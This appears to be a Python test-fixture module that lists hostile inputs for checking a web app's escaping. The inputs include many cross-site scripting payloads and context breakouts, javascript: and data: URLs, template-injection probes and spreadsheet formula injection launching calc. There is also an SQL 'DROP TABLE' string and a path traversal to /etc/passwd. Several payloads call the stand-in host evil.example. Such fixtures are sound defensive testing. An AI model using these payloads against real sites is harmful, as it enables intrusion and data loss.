"""Words that somebody might type to make a page of ours do something.

Whatever they put into a page bears the mark `x-h`, calls `caught()` or asks for something of evil.example.
"""

RLO, LRI, PDI, ZWSP, ZWJ, BOM, NBSP = "\u202e", "\u2066", "\u2069", "\u200b", "\u200d", "\ufeff", "\u00a0"

TAGS = [
    "<script x-h>caught(1)</script>",
    "<ScRiPt x-h>caught(2)</sCrIpT>",
    '<script x-h src="//evil.example/3"></script>',
    "<script x-h type=module>caught(4)</script>",
    "<img x-h src=x onerror=caught(5)>",
    "<svg x-h onload=caught(6)>",
    "<svg><script x-h>caught(7)</script></svg>",
    '<svg><use x-h href="//evil.example/8#a"/></svg>',
    '<svg><a xlink:href="javascript:caught(9)"><text x-h>9</text></a></svg>',
    "<svg><animate x-h onbegin=caught(10) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><!--</style><img x-h title="--&gt;&lt;img onerror=caught(11)&gt;">',
    '<math x-h href="javascript:caught(12)">12</math>',
    "<iframe x-h srcdoc='<script>parent.caught(13)</script>'></iframe>",
    '<iframe x-h src="javascript:parent.caught(14)">',
    '<object x-h data="//evil.example/15"></object>',
    '<embed x-h src="//evil.example/16">',
    "<details x-h open ontoggle=caught(17)>",
    "<input x-h autofocus onfocus=caught(18)>",
    "<video x-h><source onerror=caught(19)></video>",
    "<marquee x-h onstart=caught(20)>20</marquee>",
    '<form x-h action="//evil.example/21"><button autofocus>',
    '<base x-h href="//evil.example/22/">',
    '<meta x-h http-equiv=refresh content="0;url=//evil.example/23">',
    '<link x-h rel=stylesheet href="//evil.example/24">',
    "<style x-h>*{background:url(//evil.example/25)}</style>",
    "<x-h style=animation-name:x onanimationstart=caught(26)>26</x-h>",
    "<template x-h><img src=x onerror=caught(27)></template>",
    '<noscript><p x-h title="</noscript><img x-h src=x onerror=caught(28)>">',
    "<b x-h>29</b><i x-h>only markup",
    "<a x-h href=//evil.example/30>30",
    "&lt;img x-h src=x onerror=caught(31)&gt; &#60;b x-h&#62;",
    "%3Cimg%20x-h%20src=x%20onerror=caught(32)%3E",
]
BREAKOUTS = [
    '"><img x-h src=x onerror=caught(33)>',
    "'><img x-h src=x onerror=caught(34)>",
    '" autofocus x-h onfocus=caught(35) y="',
    "' autofocus x-h onfocus=caught(36) y='",
    "` x-h onmouseover=caught(37) `",
    "x x-h onload=caught(38)",
    "</title><script x-h>caught(39)</script>",
    "</textarea><script x-h>caught(40)</script>",
    "</option></select><img x-h src=x onerror=caught(41)>",
    "</style><script x-h>caught(42)</script>",
    "--><script x-h>caught(43)</script><!--",
    "]]><script x-h>caught(44)</script>",
    "</script><script x-h>caught(45)</script>",
    "\\u003c/script\\u003e\\u003cimg x-h src=x onerror=caught(46)\\u003e",
    '";caught(47);//',
    "';caught(48);//",
    "\\';caught(49);//",
    "${caught(50)}`+caught(50)+`",
    '{"kind":"room.end","body":{"x":"51"}}',
    '"],"is_admin":true,"x":["52',
    "red;background:url(//evil.example/53)",
    "}*{background:url(//evil.example/54)}",
    "expression(caught(55))",
    "url('javascript:caught(56)')",
]
ADDRESSES = [
    "javascript:caught(57)",
    "JaVaScRiPt&colon;caught(58)",
    "java\tscript:caught(59)",
    "data:text/html,<script x-h>caught(60)</script>",
    "vbscript:caught(61)",
    "//evil.example/62",
    "https://evil.example/63?q=<b x-h>",
    "\\\\evil.example\\64",
]
TEMPLATES = [
    "{{7*191}}",
    "${7*191}",
    "<%= 7*191 %>",
    "#{7*191} *{7*191} @(7*191)",
    "{% load x_h %}{{ request.user.password }}",
    "{{constructor.constructor('caught(70)')()}}",
    "%(name)s %(names)s %(n)d %s %d %",
    "%(missing)s 100% {0} {name!r} {name.__class__}",
    "$& $1 $` $' \\1 \\g<0>",
    "__proto__ constructor toString",
    "<p x-h hx-get=//evil.example/75 hx-trigger=load>",
    '" hx-get=//evil.example/76 hx-trigger=load x-h="',
    "<p x-h data-hx-on:load=caught(77) hx-on::load=caught(77)>",
]
SHEETS = [
    '=HYPERLINK("//evil.example/78","78")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1 \r\n=2+2, "=3+3"',
]
LETTERS = [
    f"{RLO}gnirts desrever a si siht{PDI}",
    f"{LRI}{RLO}<b x-h>{PDI}",
    f"June{ZWSP}{ZWSP}{BOM}Parker",
    f"{ZWSP}{NBSP}{ZWSP}",
    "Z" + "\u0310\u0351\u0333" * 30,
    "👩" + ZWJ + "👩" + ZWJ + "👧" + ZWJ + "👦 🏳️" + ZWJ + "🌈 🇺🇸🇲🇽 👍🏿 #️⃣",
    "\U000e0001\U000e0041 tags, \U0001d552\U0001d553 double struck, \ufdfd, 𒐫",
    "שלום <b x-h>مرحبا</b> 你好 ไทย",
    "W" * 119,
    "long " + "-".join(["verylongword"] * 20),
    "many\n\n\nlines\r\n\tand\vtabs\f",
    "' OR 1=1; DROP TABLE accounts_user; --",
    "../../../../etc/passwd\\..\\..\\x",
    "\x00<b x-h>after nothing</b>",
    "\x1b[31mred\x1b[0m \x07\x08",
]
WORDS = [*TAGS, *BREAKOUTS, *ADDRESSES, *TEMPLATES, *SHEETS, *LETTERS]
COMPUTED = "1337"  # what 7*191 would be


def plain(words: str) -> str:
    """What of `words` an eye can compare: no white space, and nothing that cannot be printed."""
    return "".join(letter for letter in words if letter.isprintable() and not letter.isspace())


def many(longest: int, first: int = 0) -> str:
    """As many of the words as fit, from one of them on."""
    words = [word for word in WORDS[first:] + WORDS[:first] if "\0" not in word]
    return "\n".join(words)[:longest]
